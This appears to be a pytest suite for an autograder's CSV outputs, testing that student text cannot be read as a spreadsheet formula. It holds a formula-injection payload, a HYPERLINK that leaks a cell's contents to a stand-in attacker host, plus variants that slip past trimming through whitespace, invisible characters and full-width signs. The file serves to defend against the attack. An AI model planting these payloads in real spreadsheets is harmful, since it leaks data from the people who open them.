"""Every CSV attnkit writes shows student text as text in a spreadsheet, whatever the text starts with.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula; some trim leading whitespace (a space,
a newline, U+3000) or invisible characters first, or read full-width forms (`＝`, `＋`, `－`, `＠`) as the ASCII ones.
Each such start is written here into every CSV: grades.csv (`attnkit grade`), similarity.csv (`attnkit
similarity`), the Canvas and Moodle files and their notes (`attnkit export`), and `nbgrader export` (attnkit's
`CourseCsvExport`, on a gradebook made here). Each file is read back with Python's csv module: the student's text is
there, whole, after the guard's `'`, and no cell starts a formula once trimmed and normalised as below (read
independently of the guard's own code).
"""

import csv
import json
import re
import unicodedata

import pytest

from autograder import cli
from autograder.course.exercises import EXERCISES
from autograder.integrations.lms import CANVAS_REQUIRED
from autograder.integrations.nbgrader_export import CourseCsvExport
from autograder.outputs import records
from autograder.review.page import write_csv
from autograder.review.similarity import Analysis, Pair

PAYLOAD = '=HYPERLINK("attacker.example?leak="&A1,"click")'  # no "/": a student id is a folder name
# What may stand before a formula that a spreadsheet still runs: each new start is one case.
LEADS = {
    "space": " ",
    "newline": "\n",
    "spaces and a tab": "  \t",
    "ideographic space": "\u3000",
    "no-break space": "\u00a0",
    "zero-width space": "\u200b",
    "byte order mark": "\ufeff",
}
FULL_WIDTH = {"full-width =": "＝", "full-width +": "＋", "full-width -": "－", "full-width @": "＠",
              "small =": "﹦"}
HOSTILE = {**{name: lead + PAYLOAD for name, lead in LEADS.items()},
           **{name: char + 'HYPERLINK("attacker.example")' for name, char in FULL_WIDTH.items()},
           "newline then full-width": "\n＝1+1", "plain, for the record": PAYLOAD}
# Invisible characters a spreadsheet may drop (zero-width space, joiners, word joiner, byte order mark).
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff"


def starts_a_formula(cell):
    """The test's own reading of a cell as a spreadsheet that trims and normalises it would read it."""
    read = unicodedata.normalize("NFKC", cell)
    read = re.sub(f"^[\\s{INVISIBLE}]+", "", read)
    return read[:1] in ("=", "+", "-", "@")


def read_rows(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_shown_as_text(rows, text, *, read_trimmed=False):
    """`text` is in the file whole, after the guard's quote, and no cell of the file starts a formula. (A roster's
    cells are `read_trimmed`: attnkit export reads an LMS's CSV as the LMS wrote it, less surrounding whitespace.)"""
    cells = [cell for row in rows for cell in row]
    assert "'" + (text.strip() if read_trimmed else text) in cells, (text, cells)
    assert [cell for cell in cells if starts_a_formula(cell)] == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_shared_guard_quotes_every_start_a_spreadsheet_may_run(text):
    assert starts_a_formula(text), "the case is harmless: it tests nothing"
    assert records.spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Alice", " Alice", "\nnotes", "Lovelace, Ann", "王小明", "'=quoted already", "a=b",
                                  "", "   "])
def test_text_that_starts_no_formula_is_kept_as_it_is(text):
    assert records.spreadsheet_text(text) == text


def _record(student_id, score=1.0):
    """A graded record of one notebook whose one check earned `score`."""
    exercise = EXERCISES[0]
    check = {"id": f"{exercise.id}.hidden", "exercise": exercise.id, "score": score,
             "max_score": float(exercise.points), "status": "passed", "misconception": None, "message": "",
             "hidden": True}
    return {"student_id": student_id, "assignment": "attention", "submission_hash": "x", "seed": 0, "score": score,
            "max_score": float(exercise.points),
            "notebooks": [{"notebook": exercise.notebook, "status": "unreadable", "reason": "", "path": "",
                           "sha256": "", "notes": [], "problems": [], "score": score,
                           "max_score": float(exercise.points), "checks": [check]}]}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_grades_csv(tmp_path, text):
    document = _record(text)
    document["notebooks"][0]["reason"] = text  # the problems column holds the student's file names and notes
    document["notebooks"][0]["problems"] = [text]
    rows = read_rows(records.write_grades_csv(tmp_path, [document]))
    assert rows[1][0] == "'" + text
    assert_shown_as_text(rows, text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_similarity_csv(tmp_path, text):
    pair = Pair(text, "bob", 0.9, 0.8, [], [], passages=3)
    analysis = Analysis([pair], 2, 1, 2, {(pair.student_a, pair.student_b): {7}})
    rows = read_rows(write_csv(tmp_path, analysis))
    assert rows[1][:2] == ["'" + text, "bob"]
    assert_shown_as_text(rows, text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_canvas_and_moodle_files_and_their_notes(tmp_path, text):
    folder = tmp_path / "grades"
    (folder / "students").mkdir(parents=True)
    for student_id in ("ann", text):  # `text` is graded and not in the roster: named in the notes file
        (folder / "students" / f"{student_id}.json").write_text(json.dumps(_record(student_id)), encoding="utf-8")
    roster = tmp_path / "canvas-roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow([*CANVAS_REQUIRED, "Attention (1)"])
        writer.writerow(["    Points Possible", "", "", "", "", "100.00"])
        writer.writerow([text, "101", "S101", "ann", text])  # the roster's name and section: the LMS's text
    canvas = tmp_path / "canvas.csv"
    assert cli.main(["export", str(folder), "--canvas", str(roster), "--out", str(canvas)]) == 1  # `text` not in it
    assert_shown_as_text(read_rows(canvas), text, read_trimmed=True)
    assert_shown_as_text(read_rows(canvas.with_name(canvas.name + ".notes.csv")), text)

    moodle_roster = tmp_path / "moodle-roster.csv"
    with moodle_roster.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["First name", "Email address"], [text, "ann"]])
    moodle = tmp_path / "moodle.csv"
    assert cli.main(["export", str(folder), "--moodle", str(moodle_roster), "--id-column", "email",
                     "--out", str(moodle)]) == 1
    assert [cell for row in read_rows(moodle) for cell in row if starts_a_formula(cell)] == []
    assert_shown_as_text(read_rows(moodle.with_name(moodle.name + ".notes.csv")), text)


@pytest.mark.slow  # nbgrader makes its gradebook through alembic's migrations: about 4 s
def test_nbgrader_export(tmp_path):
    """One gradebook holds a student per case (id, name and email the student's text), as `nbgrader export` reads it."""
    from nbgrader.api import Gradebook

    destination = tmp_path / "grades.csv"
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}", "attention-course") as gradebook:
        gradebook.update_or_create_assignment("attention")
        for text in HOSTILE.values():
            gradebook.update_or_create_student(text, last_name=text, first_name="Ann", email=f"{text}@uni.example")
        CourseCsvExport(to=str(destination)).export(gradebook)
    rows = read_rows(destination)
    by_id = {row["student_id"]: row for row in (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
    assert set(by_id) == {"'" + text for text in HOSTILE.values()}
    for text in HOSTILE.values():
        assert by_id["'" + text]["last_name"] == "'" + text and by_id["'" + text]["email"] == f"'{text}@uni.example"
    assert [cell for row in rows for cell in row if starts_a_formula(cell)] == []


def test_every_csv_attnkit_writes_goes_through_the_guard(repo_root):
    """A module that writes CSV quotes its student text with records.spreadsheet_text: a new writer is listed here
    once it does (and gets a test above)."""
    writers = sorted(str(path.relative_to(repo_root)) for path in (repo_root / "autograder").rglob("*.py")
                     if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")))
    assert writers == ["autograder/integrations/lms.py", "autograder/integrations/nbgrader_export.py",
                       "autograder/outputs/records.py", "autograder/review/page.py"]
    for writer in writers:
        assert "spreadsheet_text(" in (repo_root / writer).read_text(encoding="utf-8"), writer
